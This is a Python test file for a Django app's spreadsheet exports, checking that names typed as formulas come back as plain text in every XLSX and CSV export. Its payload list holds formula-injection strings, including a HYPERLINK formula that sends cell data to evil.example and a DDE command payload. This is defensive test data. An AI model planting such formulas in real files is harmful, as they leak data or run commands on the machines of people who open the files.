"""Every spreadsheet the product writes stores text as text (issue 9 item 2): no formula survives an export."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.urls import URLPattern, URLResolver, get_resolver
from openpyxl import load_workbook

from opphub.alerts.scan import scan_run
from opphub.common.exports import Column, csv_lines, xlsx_bytes
from opphub.customers.models import Customer
from opphub.opportunities.models import Opportunity

from ..alerts.test_scan import NOW, _opp

MALICIOUS = [
    '=HYPERLINK("http://evil.example/?leak="&A1, "点我")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


def _walk(patterns, prefix=""):  # type: ignore[no-untyped-def]
    for p in patterns:
        if isinstance(p, URLResolver):
            yield from _walk(p.url_patterns, prefix + str(p.pattern))
        elif isinstance(p, URLPattern):
            yield prefix + str(p.pattern), p


def _export_urls() -> list[str]:
    """Every route that answers with a spreadsheet: the URL ends in .xlsx or .csv."""
    return sorted(path for path, _p in _walk(get_resolver().url_patterns)
                  if path.endswith((".xlsx", ".csv")) and "<" not in path)


def _check_xlsx(content: bytes, expected: set[str]) -> None:
    wb = load_workbook(io.BytesIO(content))
    for ws in wb.worksheets:
        assert ws.freeze_panes == "A2"
        assert ws.auto_filter.ref and ws.auto_filter.ref.startswith("A1:")
        values = set()
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not (cell.value.startswith("=") and cell.data_type != "s")
                    values.add(cell.value)
        assert expected <= values, expected - values


def _check_csv(content: bytes, expected: set[str]) -> None:
    assert content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    cells = {c for row in rows for c in row}
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert {"'" + t for t in expected} <= cells


@pytest.mark.django_db
def test_every_export_keeps_typed_text_as_text(org, client, django_capture_on_commit_callbacks):
    """spec: P4, X4 (weekly review) — names typed as formulas come back as the typed text in every Excel and
    CSV export; no cell is a formula; the header is frozen and filtered."""
    opps = []
    for i, text in enumerate(MALICIOUS):
        opp = _opp(org, org.r1, created=NOW - dt.timedelta(days=30))
        Opportunity.objects.filter(pk=opp.pk).update(name=text, amount=Decimal(1000 + i))
        Customer.objects.filter(pk=opp.customer_id).update(name=f"{text} 客户{i}")
        opps.append(opp)
    with django_capture_on_commit_callbacks(execute=True):
        scan_run(now=NOW, x3=False)
    client.force_login(org.m1)
    urls = _export_urls()
    assert "team/review/export.xlsx" in urls and "team/review/export.csv" in urls
    expected = set(MALICIOUS) | {f"{t} 客户{i}" for i, t in enumerate(MALICIOUS)}
    for url in urls:
        response = client.get("/" + url)
        assert response.status_code == 200, url
        content = b"".join(response.streaming_content) if response.streaming else response.content
        if url.endswith(".xlsx"):
            _check_xlsx(content, {t.replace("\r", "\n") for t in expected})  # XML reads CR as a line break
        else:
            _check_csv(content, expected)


def test_numbers_and_dates_stay_numbers_and_dates():
    """Money, integers and dates are real cells (sums and filters work); aware datetimes in local time."""
    columns = [Column("名称"), Column("Amount", "money"), Column("Count", "integer"), Column("Due", "date"),
               Column("At", "datetime")]
    at = dt.datetime(2026, 11, 20, 2, 30, tzinfo=dt.UTC)
    rows_in = [["=1+1", Decimal("12.50"), 3, dt.date(2026, 12, 31), at], ["ok\x01", None, "", None, None]]
    content = xlsx_bytes(title="Test [1]", columns=columns, rows=iter(rows_in))
    ws = load_workbook(io.BytesIO(content)).active
    rows = list(ws.values)
    assert rows[0] == ("名称", "Amount", "Count", "Due", "At")
    assert rows[1][0] == "=1+1" and ws["A2"].data_type == "s" and ws["A2"].quotePrefix
    assert rows[1][1] == 12.5 and rows[1][2] == 3
    assert rows[1][3] == dt.datetime(2026, 12, 31) and rows[1][4] == dt.datetime(2026, 11, 20, 10, 30)
    assert rows[2][0] == "ok" and rows[2][1:] == (None, None, None, None)
    assert ws.column_dimensions["A"].width > 0 and ws.auto_filter.ref == "A1:E3"
    text = "".join(csv_lines(columns=columns, rows=[["-1", Decimal("1.5"), 2, dt.date(2026, 1, 2), at]]))
    assert text.splitlines()[1] == "'-1,1.5,2,2026-01-02,2026-11-20 10:30"
